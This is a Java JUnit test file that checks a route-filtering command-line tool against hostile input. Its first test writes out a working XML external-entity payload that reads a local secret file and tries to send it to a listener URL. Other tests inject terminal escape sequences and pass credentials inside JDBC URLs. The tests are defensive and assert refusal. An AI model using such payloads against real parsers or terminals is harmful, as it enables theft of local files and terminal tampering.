package io.corridor.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.PrintStream;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The command line against hostile and careless input: each case asserts the exit status, where
 * the message points and what it says, and that no file was created, replaced or truncated.
 */
class HostileInputTest {
  private static final String ROUTE = "{\"type\":\"LineString\",\"coordinates\":[[0,0],[1,0]]}";
  private static final String PLACES = "id,lat,lon,name\na,0.001,0.5,A\nb,0.5,0.5,B\n";
  private static final String SECRET = "s3cr3t-0f-th1s-host";

  @TempDir Path dir;
  private Path route;
  private Path places;
  private Path previous;

  /** What one run printed and returned. */
  private record Result(int status, String out, String err) {}

  @BeforeEach
  void files() throws IOException {
    route = Files.writeString(dir.resolve("route.geojson"), ROUTE);
    places = Files.writeString(dir.resolve("places.csv"), PLACES);
    previous = Files.writeString(dir.resolve("previous.csv"), "an earlier output\n");
  }

  private Result run(String... args) {
    return run(new ByteArrayOutputStream(), args);
  }

  private Result run(OutputStream stdout, String... args) {
    StringWriter err = new StringWriter();
    PrintStream out = new PrintStream(stdout, true, StandardCharsets.UTF_8);
    int status = CorridorCommand.run(out, new PrintWriter(err, true), args);
    return new Result(status, stdout.toString(), err.toString());
  }

  /** Returns every file under the folder with its content and mode, to compare before and after. */
  private Map<String, String> snapshot() throws IOException {
    Map<String, String> files = new TreeMap<>();
    try (Stream<Path> all = Files.walk(dir)) {
      for (Path p : all.toList()) {
        String kind = Files.isSymbolicLink(p) ? "link " + Files.readSymbolicLink(p)
            : Files.isDirectory(p) ? "dir"
            : PosixFilePermissions.toString(Files.getPosixFilePermissions(p)) + " "
                + Files.readString(p, StandardCharsets.ISO_8859_1);
        files.put(dir.relativize(p).toString(), kind);
      }
    }
    return files;
  }

  /** Runs a command that must be refused: exit 2, one message, no trace, no file touched. */
  private String refused(String... args) throws IOException {
    Map<String, String> before = snapshot();
    Result r = run(args);
    assertThat(r.status()).as(r.err()).isEqualTo(2);
    assertThat(r.out()).isEmpty();
    assertThat(r.err()).startsWith("corridor: ").doesNotContain("\tat ", "Exception", "\u001b");
    assertThat(r.err().strip().lines().count()).isEqualTo(1);
    assertThat(snapshot()).isEqualTo(before);
    return r.err().strip();
  }

  private Path write(String name, String content) throws IOException {
    return Files.writeString(dir.resolve(name), content);
  }

  // 1. XML external entities in GPX

  @Test
  void gpxEntitiesAreNeitherFetchedNorReadInFilterOrSearch() throws Exception {
    Path secret = write("secret.txt", SECRET);
    Path index = dir.resolve("places.corridx");
    assertThat(run("import", "--locations", places.toString(), "--out", index.toString()).status())
        .isZero();
    try (ServerSocket listener = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
      listener.setSoTimeout(300);
      String url = "http://127.0.0.1:" + listener.getLocalPort() + "/x.dtd";
      Path gpx = write("evil.gpx", "<?xml version=\"1.0\"?>\n<!DOCTYPE gpx [\n"
          + "<!ENTITY % p SYSTEM \"" + secret.toUri() + "\">\n"
          + "<!ENTITY % q \"<!ENTITY &#x25; send SYSTEM '" + url + "?%p;'>\"> %q; %send;\n"
          + "<!ENTITY % e \"<!ENTITY &#x25; err SYSTEM 'file:///nonexistent/%p;'>\"> %e; %err;\n"
          + "]>\n<gpx version=\"1.1\" creator=\"x\"><trk><trkseg><trkpt lat=\"0\" lon=\"0\"/>"
          + "<trkpt lat=\"0\" lon=\"1\"/></trkseg></trk></gpx>");
      for (String[] args : List.of(
          new String[] {"filter", "--route", gpx.toString(), "--radius", "500",
              "--locations", places.toString(), "--output", previous.toString()},
          new String[] {"search", "--index", index.toString(), "--route", gpx.toString(),
              "--radius", "500", "--output", previous.toString()})) {
        String message = assertTimeoutPreemptively(Duration.ofSeconds(20), () -> refused(args));
        assertThat(message).isEqualTo("corridor: " + gpx
            + ": not a valid GPX file: a DOCTYPE is not allowed in GPX (it is not read)");
        assertThat(message).doesNotContain(SECRET);
      }
      try {
        listener.accept().close();
        throw new AssertionError("the GPX reader connected to " + url);
      } catch (SocketTimeoutException expected) {
        // Nothing connected.
      }
    }
  }

  // 2. Outputs that replace devices and inputs

  @Test
  void anOutputThatIsAnInputIsRefused() throws IOException {
    assertThat(refused("filter", "--route", route.toString(), "--radius", "500",
        "--locations", places.toString(), "--output", places.toString()))
        .isEqualTo("corridor: --output: " + places + " is also an input of this command ("
            + places + "): write the output to another file");
    Path link = Files.createSymbolicLink(dir.resolve("link.csv"), places);
    assertThat(refused("filter", "--route", route.toString(), "--radius", "500",
        "--locations", places.toString(), "--output", link.toString()))
        .contains("--output: " + link + " is also an input");
    assertThat(refused("filter", "--route", route.toString(), "--radius", "500",
        "--locations", places.toString(), "--output", route.toString()))
        .contains("--output: " + route + " is also an input");
    assertThat(refused("import", "--locations", places.toString(), "--out", places.toString()))
        .contains("--out: " + places + " is also an input");
  }

  @ParameterizedTest
  @ValueSource(strings = {"/dev/null", "/proc/self/status", "/proc/corridor-test", ""})
  void aDeviceOrKernelFileOrEmptyNameIsNeverAnOutput(String target) throws IOException {
    String message = refused("filter", "--route", route.toString(), "--radius", "500",
        "--locations", places.toString(), "--output", target);
    assertThat(message).startsWith("corridor: --output: ");
    assertThat(message).containsAnyOf("is not a regular file", "kernel folder", "the file name is empty");
    assertThat(Files.isRegularFile(Path.of("/dev/null"))).isFalse();
  }

  @Test
  void aDirectoryOrMissingFolderIsRefusedAsOutputOrIndex() throws IOException {
    assertThat(refused("filter", "--route", route.toString(), "--radius", "500",
        "--locations", places.toString(), "--output", dir.toString()))
        .isEqualTo("corridor: --output: " + dir + ": is a directory, not a file");
    Path missing = dir.resolve("no/such/folder/out.csv");
    assertThat(refused("generate", "--count", "3", "--output", missing.toString()))
        .isEqualTo("corridor: --output: " + missing + ": its folder does not exist");
    assertThat(refused("import", "--locations", places.toString(), "--out", dir.toString()))
        .isEqualTo("corridor: --out: " + dir + ": is a directory, not a file");
    for (String index : new String[] {dir.toString(), missing.toString(), "", "/proc/self/status"}) {
      assertThat(refused("search", "--index", index, "--route", route.toString(), "--radius", "500"))
          .startsWith("corridor: ").contains("index");
    }
  }

  @Test
  void aSymbolicLinkIsWrittenThroughAndAFileKeepsItsMode() throws IOException {
    Files.setPosixFilePermissions(previous, PosixFilePermissions.fromString("rw-r-----"));
    Path link = Files.createSymbolicLink(dir.resolve("latest.csv"), previous);
    Result r = run("filter", "--route", route.toString(), "--radius", "500",
        "--locations", places.toString(), "--output", link.toString());
    assertThat(r.status()).as(r.err()).isZero();
    assertThat(Files.isSymbolicLink(link)).isTrue();
    assertThat(Files.readString(previous)).startsWith("id,distance_m,offset_m\na,");
    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(previous)))
        .isEqualTo("rw-r-----");
    try (Stream<Path> left = Files.list(dir)) {
      assertThat(left.map(p -> p.getFileName().toString())).noneMatch(n -> n.endsWith(".tmp"));
    }
  }

  @Test
  void aReadOnlyOutputIsRefusedOrReplacedKeepingItsMode() throws IOException {
    Files.setPosixFilePermissions(previous, PosixFilePermissions.fromString("r--r--r--"));
    String[] args = {"filter", "--route", route.toString(), "--radius", "500",
        "--locations", places.toString(), "--output", previous.toString()};
    if (Files.isWritable(previous)) {
      // Root may write any file: it is replaced, and stays read-only.
      assertThat(run(args).status()).isZero();
      assertThat(Files.readString(previous)).startsWith("id,distance_m,offset_m\n");
    } else {
      assertThat(refused(args)).isEqualTo("corridor: --output: " + previous
          + ": is read-only: it is not replaced");
    }
    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(previous)))
        .isEqualTo("r--r--r--");
  }

  // 3. An unclosed CSV quote

  @Test
  void anUnclosedQuoteIsRefusedAtItsLineInFilterAndImport() throws IOException {
    Path csv = write("open.csv", "id,lat,lon,name\na,0.001,0.5,\"open\nb,0.002,0.5,B\nc,0,0,C\n");
    String where = "corridor: " + csv + ": line 2: a quoted field is not closed: its opening quote"
        + " runs to the end of the file";
    assertThat(refused("filter", "--route", route.toString(), "--radius", "500",
        "--locations", csv.toString(), "--output", previous.toString())).isEqualTo(where);
    assertThat(refused("import", "--locations", csv.toString(),
        "--out", dir.resolve("x.corridx").toString())).isEqualTo(where);
  }

  // 4. Write errors on standard output

  @Test
  void aFailingStandardOutputEndsWithAMessageAndStatusOne() {
    OutputStream full = new OutputStream() {
      @Override
      public void write(int b) throws IOException {
        throw new IOException("No space left on device");
      }

      @Override
      public void write(byte[] b, int off, int len) throws IOException {
        throw new IOException("No space left on device");
      }
    };
    for (String[] args : List.of(
        new String[] {"filter", "--route", route.toString(), "--radius", "500",
            "--locations", places.toString()},
        new String[] {"generate", "--count", "1000"})) {
      StringWriter err = new StringWriter();
      int status = CorridorCommand.run(new PrintStream(full), new PrintWriter(err, true), args);
      assertThat(status).isEqualTo(1);
      assertThat(err.toString().strip()).isEqualTo("corridor: standard output cannot be written"
          + " (a full disk or a closed pipe?): the output is incomplete");
    }
  }

  // 7. Passwords in messages

  @ParameterizedTest
  @ValueSource(strings = {
      "jdbc:postgresql://alice:hunter2@127.0.0.1:99999/db?password=hunter2",
      "jdbc:postgresql://127.0.0.1:abc/db?user=alice&password=hunter2",
      "jdbc:postgresql://alice:hunter2@127.0.0.1:9/db",
      "jdbc:postgresql://127.0.0.1:9/db?user=alice&password=hunter2",
      "jdbc:mysql://alice:hunter2@127.0.0.1/db?password=hunter2"})
  void aJdbcUrlIsNeverShown(String url) throws IOException {
    ByteArrayOutputStream stderr = new ByteArrayOutputStream();
    PrintStream err = System.err;
    System.setErr(new PrintStream(stderr, true, StandardCharsets.UTF_8));
    String message;
    try {
      message = refused("import", "--postgres", url, "--sql", "SELECT 1",
          "--out", dir.resolve("pg.corridx").toString());
    } finally {
      System.setErr(err);
    }
    assertThat(message).startsWith("corridor: PostgreSQL").doesNotContain("hunter2", "alice");
    assertThat(stderr.toString(StandardCharsets.UTF_8)).doesNotContain("hunter2");
  }

  // 8. Stack traces and exit 1 where a message and exit 2 are due

  @ParameterizedTest
  @ValueSource(strings = {"0", "32768", "2147483647", "-1"})
  void threadsOutOfRangeAreRefused(String threads) throws IOException {
    assertThat(refused("filter", "--route", route.toString(), "--radius", "500",
        "--locations", places.toString(), "--threads", threads, "--output", previous.toString()))
        .isEqualTo("corridor: --threads: " + threads + " is outside [1, 1024]");
  }

  @Test
  void aNumberTooLargeForItsOptionIsAMessage() throws IOException {
    assertThat(refused("filter", "--route", route.toString(), "--radius", "500",
        "--locations", places.toString(), "--threads", "99999999999"))
        .startsWith("corridor: Invalid value for option '--threads'");
  }

  // 9. Unsafe or vague messages

  @Test
  void escapeSequencesAndBinaryAreNeverEchoedRaw() throws IOException {
    Path header = write("esc.csv", "id,\u001b]0;pwned\u0007\u001b[2J,lon\na,1,2\n");
    assertThat(refused("filter", "--route", route.toString(), "--radius", "500",
        "--locations", header.toString())).contains("\\u001B]0;pwned\\u0007\\u001B[2J");
    Path type = write("esc.geojson", "{\"type\":\"\\u001b[31mFeatureCollection\",\"features\":[]}");
    assertThat(refused("filter", "--route", route.toString(), "--radius", "500",
        "--locations", type.toString())).contains("\\u001B[31m");
    byte[] binary = new byte[64 * 1024];
    new java.util.Random(7).nextBytes(binary);
    Path garbage = dir.resolve("garbage.bin");
    Files.write(garbage, binary);
    assertThat(refused("filter", "--route", route.toString(), "--radius", "500",
        "--locations", garbage.toString())).hasSizeLessThan(1200);
    assertThat(refused("filter", "--route", garbage.toString(), "--radius", "500",
        "--locations", places.toString())).hasSizeLessThan(1200);
  }

  @Test
  void jacksonAdviceAndEmptyFilesAreWordedForUsers() throws IOException {
    Path nan = write("nan.geojson", "{\"type\":\"LineString\",\"coordinates\":[[NaN,0],[1,0]]}");
    assertThat(refused("filter", "--route", nan.toString(), "--radius", "500",
        "--locations", places.toString()))
        .startsWith("corridor: " + nan + ": line 1, column ")
        .contains("malformed JSON: Non-standard token 'NaN'")
        .doesNotContain("`", "JsonReadFeature", "StreamReadConstraints");
    Path empty = write("empty.geojson", "");
    assertThat(refused("filter", "--route", empty.toString(), "--radius", "500",
        "--locations", places.toString()))
        .isEqualTo("corridor: " + empty + ": is empty: expected a route (GeoJSON, GPX or an"
            + " encoded polyline)");
    Path gpx = write("bad.gpx", "<gpx version=\"1.1\">\n<trk><trkseg>\n<trkpt lat=\"0\" lon=\"0\"/>\n"
        + "<trkpt lat=\"1e1\" lon=\"0\"/></trkseg></trk></gpx>");
    assertThat(refused("filter", "--route", gpx.toString(), "--radius", "500",
        "--locations", places.toString()))
        .isEqualTo("corridor: " + gpx + ": line 4: route vertex 2 (<trkpt>): lat \"1e1\" is not a"
            + " decimal number");
  }

  // 10. Lenient where it should refuse

  @Test
  void lenientInputIsRefused() throws IOException {
    Path trailing = write("trailing.geojson", ROUTE + "\n{\"type\":\"Point\"}");
    assertThat(refused("filter", "--route", trailing.toString(), "--radius", "500",
        "--locations", places.toString()))
        .isEqualTo("corridor: " + trailing + ": line 2, column 1: malformed JSON: content follows"
            + " the end of the JSON value");
    Path twice = write("twice.geojson",
        "{\"type\":\"LineString\",\"coordinates\":[[0,0]],\"coordinates\":[[0,0],[1,0]]}");
    assertThat(refused("filter", "--route", twice.toString(), "--radius", "500",
        "--locations", places.toString()))
        .endsWith("malformed JSON: the key 'coordinates' appears twice in one object");
    Path columns = write("columns.csv", "id,lat,lon,name,name\na,0,0,x,y\n");
    assertThat(refused("filter", "--route", route.toString(), "--radius", "500",
        "--locations", columns.toString()))
        .isEqualTo("corridor: " + columns + ": line 1: the header names column \"name\" twice"
            + " (columns 4 and 5): name each column once");
    assertThat(refused("filter", "--route", route.toString(), "--radius", "0x1p5",
        "--locations", places.toString()))
        .startsWith("corridor: Invalid value for option '--radius': \"0x1p5\" is not a decimal number");
    Path hex = write("hex.csv", "id,lat,lon\na,0x1p-9,0\n");
    assertThat(refused("filter", "--route", route.toString(), "--radius", "500",
        "--locations", hex.toString()))
        .isEqualTo("corridor: " + hex + ": line 2: lat \"0x1p-9\" is not a decimal number");
    Path clash = write("clash.csv", "id,lat,lon,distance_m\na,0.001,0.5,12\n");
    assertThat(refused("filter", "--route", route.toString(), "--radius", "500",
        "--locations", clash.toString(), "--format", "geojson", "--output", previous.toString()))
        .isEqualTo("corridor: location \"a\" has a property \"distance_m\", which GeoJSON output"
            + " writes itself: rename it in the input, or write CSV or JSON Lines, which keep it"
            + " apart");
  }

  @Test
  void anEmptyOrCorruptPbfAndABadTagFilterAreRefused() throws IOException {
    Path empty = write("empty.osm.pbf", "");
    Path out = dir.resolve("osm.corridx");
    assertThat(refused("import", "--osm", empty.toString(), "--osm-tags", "amenity=fuel",
        "--out", out.toString()))
        .isEqualTo("corridor: " + empty + ": is empty, not an OpenStreetMap PBF file");
    Path corrupt = dir.resolve("corrupt.osm.pbf");
    Files.write(corrupt, new byte[] {0, 0, 0, 4, 1, 2, 3, 4, 5, 6, 7, 8});
    assertThat(refused("import", "--osm", corrupt.toString(), "--osm-tags", "amenity=fuel",
        "--out", out.toString()))
        .startsWith("corridor: " + corrupt + ": not a valid OpenStreetMap PBF file")
        .doesNotContain("com.google", "crosby.");
    Path pbf = write("tags.osm.pbf", "x");
    assertThat(refused("import", "--osm", pbf.toString(), "--osm-tags", "a==b",
        "--out", out.toString()))
        .isEqualTo("corridor: --osm-tags: OSM tag filter entry 1 ('a==b') has more than one '=':"
            + " write key=value");
  }

  // 11. Inputs from pipes

  @Test
  void standardInputIsReadOnceAndWhole() throws IOException {
    StringBuilder csv = new StringBuilder("id,lat,lon,name\n");
    for (int k = 0; k < 2000; k++) {
      csv.append("p").append(k).append(",0.001,").append(k % 2 == 0 ? "0.5" : "2.5").append(",x\n");
    }
    assertThat(csv.length()).isGreaterThan(4096 * 4);
    InputStream stdin = System.in;
    try {
      System.setIn(new ByteArrayInputStream(csv.toString().getBytes(StandardCharsets.UTF_8)));
      Result r = run("filter", "--route", route.toString(), "--radius", "500", "--locations", "-");
      assertThat(r.status()).as(r.err()).isZero();
      assertThat(r.out().lines().count()).isEqualTo(1 + 1000);
      assertThat(r.out()).contains("\np0,").contains("\np1998,");

      System.setIn(new ByteArrayInputStream(ROUTE.getBytes(StandardCharsets.UTF_8)));
      r = run("filter", "--route", "-", "--radius", "500", "--locations", places.toString());
      assertThat(r.status()).as(r.err()).isZero();
      assertThat(r.out()).startsWith("id,distance_m,offset_m\na,");
    } finally {
      System.setIn(stdin);
    }
    assertThat(refused("filter", "--route", "-", "--radius", "500", "--locations", "-"))
        .isEqualTo("corridor: --route and --locations cannot both be - (standard input, which can"
            + " be read only once)");
  }

  @Test
  void aNamedPipeIsReadOnceAndWhole() throws Exception {
    Path fifo = dir.resolve("places.fifo");
    assertThat(new ProcessBuilder("mkfifo", fifo.toString()).start().waitFor()).isZero();
    StringBuilder csv = new StringBuilder("id,lat,lon\n");
    for (int k = 0; k < 3000; k++) {
      csv.append("q").append(k).append(",0.001,0.5\n");
    }
    Thread writer = new Thread(() -> {
      try {
        Files.writeString(fifo, csv);
      } catch (IOException e) {
        throw new java.io.UncheckedIOException(e);
      }
    });
    writer.start();
    Result r = assertTimeoutPreemptively(Duration.ofSeconds(20),
        () -> run("filter", "--route", route.toString(), "--radius", "500",
            "--locations", fifo.toString()));
    writer.join(5000);
    assertThat(r.status()).as(r.err()).isZero();
    assertThat(r.out().lines().count()).isEqualTo(1 + 3000);
  }

  // CONTRACT §2: a file that breaks the rules names the file, the place and the fault

  @Test
  void everyRouteFormatNamesTheFileAndThePlace() throws IOException {
    List<String[]> cases = new ArrayList<>();
    cases.add(new String[] {"vertex.geojson",
        "{\"type\":\"LineString\",\"coordinates\":[[0,0],[0,91]]}",
        ": route vertex 2: latitude 91.0 is outside [-90, 90]"});
    cases.add(new String[] {"two.geojson",
        "{\"type\":\"FeatureCollection\",\"features\":[]}",
        ": a route FeatureCollection must hold exactly one feature, this one holds 0"});
    cases.add(new String[] {"bad.gpx",
        "<gpx version=\"1.1\"><trk><trkseg>\n<trkpt lat=\"91\" lon=\"0\"/></trkseg></trk></gpx>",
        ": line 2: route vertex 1 (<trkpt>): latitude 91.0 is outside [-90, 90]"});
    cases.add(new String[] {"bad.polyline", "_p~iF~ps|U_ulL",
        ": polyline ends after a latitude with no longitude (vertex 2 starts at character 11)"});
    for (String[] c : cases) {
      Path file = write(c[0], c[1]);
      assertThat(refused("filter", "--route", file.toString(), "--radius", "500",
          "--locations", places.toString(), "--output", previous.toString()))
          .as(c[0]).startsWith("corridor: " + file + c[2]);
    }
  }

  @Test
  void everyLocationFormatNamesTheFileAndThePlace() throws IOException {
    Path csv = write("nolat.csv", "id,latitude,lon\na,1,2\n");
    assertThat(refused("filter", "--route", route.toString(), "--radius", "500",
        "--locations", csv.toString(), "--output", previous.toString()))
        .startsWith("corridor: " + csv + ": line 1: the header has no \"lat\" column");
    Path ragged = write("ragged.csv", "id,lat,lon\na,1,2\nb,1\n");
    assertThat(refused("filter", "--route", route.toString(), "--radius", "500",
        "--locations", ragged.toString(), "--output", previous.toString()))
        .isEqualTo("corridor: " + ragged + ": line 3: the row has 2 fields but the header has 3");
    Path geojson = write("line.geojson", "{\"type\":\"FeatureCollection\",\"features\":[\n"
        + "{\"type\":\"Feature\",\"id\":\"a\",\"geometry\":{\"type\":\"Point\",\"coordinates\":[0,0]}},\n"
        + "{\"type\":\"Feature\",\"id\":\"b\",\"geometry\":{\"type\":\"LineString\",\"coordinates\":[[0,0]]}}]}");
    assertThat(refused("import", "--locations", geojson.toString(),
        "--out", dir.resolve("i.corridx").toString()))
        .isEqualTo("corridor: " + geojson + ": feature 2 (line 3): geometry type \"LineString\" is"
            + " not Point or MultiPoint");
  }
}
